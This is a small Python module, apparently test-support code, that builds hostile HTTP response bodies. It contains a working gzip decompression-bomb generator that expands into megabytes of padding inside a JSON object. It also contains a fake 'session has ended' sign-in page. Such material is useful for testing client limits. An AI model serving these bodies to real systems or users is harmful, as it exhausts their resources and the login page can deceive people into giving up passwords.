"""Bodies made to hurt whoever reads them without a limit."""

import struct
import zlib
from functools import lru_cache

MEGABYTE = 1024 * 1024

LOGIN_PAGE = b"""<!doctype html>
<html lang="en"><head><title>Sign in</title></head>
<body><h1>Sign in</h1><p>Your session has ended.</p>
<form method="post" action="/login"><input name="user"><input name="password" type="password">
<button>Sign in</button></form>
</body></html>
"""


@lru_cache(maxsize=4)
def gzip_bomb_pieces(megabytes: int) -> tuple[bytes, ...]:
    """One gzip member, in pieces, that unpacks to a JSON object with that many megabytes of spaces in it.

    A block compressed once and flushed completely may be repeated as it is; only the checksum must be computed.
    """
    before, blank, after = b'{"request_ref": "R-1", "padding": "', b" " * MEGABYTE, b'"}'
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    head = packer.compress(before) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(blank) + packer.flush(zlib.Z_FULL_FLUSH)
    tail = packer.compress(after) + packer.flush(zlib.Z_FINISH)
    checksum = zlib.crc32(before)
    for _ in range(megabytes):
        checksum = zlib.crc32(blank, checksum)
    checksum = zlib.crc32(after, checksum)
    size = len(before) + megabytes * MEGABYTE + len(after)
    start = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + head
    return (start, *[block] * megabytes, tail + struct.pack("<II", checksum, size & 0xFFFFFFFF))
